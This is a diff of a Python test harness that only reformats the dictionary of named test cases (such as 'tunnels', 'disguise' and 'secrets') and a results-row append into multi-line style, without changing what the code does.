@@ -1045,8 +1263,25 @@ def resident_kib(pid):
     return 0
 
 
-CASES = {case.__name__: case for case in (protocols, answers, loopback, streams, names, reads, inward, shapes, frames, tunnels, disguise, secrets,
-                                           crowd, large)}
+CASES = {
+    case.__name__: case
+    for case in (
+        protocols,
+        answers,
+        loopback,
+        streams,
+        names,
+        reads,
+        inward,
+        shapes,
+        frames,
+        tunnels,
+        disguise,
+        secrets,
+        crowd,
+        large,
+    )
+}
 
 
 def all_of_them(laboratory, given):
@@ -1062,7 +1297,9 @@ def all_of_them(laboratory, given):
         function(case)
         for wrong in case.wrong:
             say(f"{name}: WRONG: {wrong}")
-        rows.append({"case": name, "what": function.__doc__.strip(), "wrong": case.wrong, "as_expected": not case.wrong})
+        rows.append(
+            {"case": name, "what": function.__doc__.strip(), "wrong": case.wrong, "as_expected": not case.wrong}
+        )
     if not given.json:
         print()
         for row in rows:
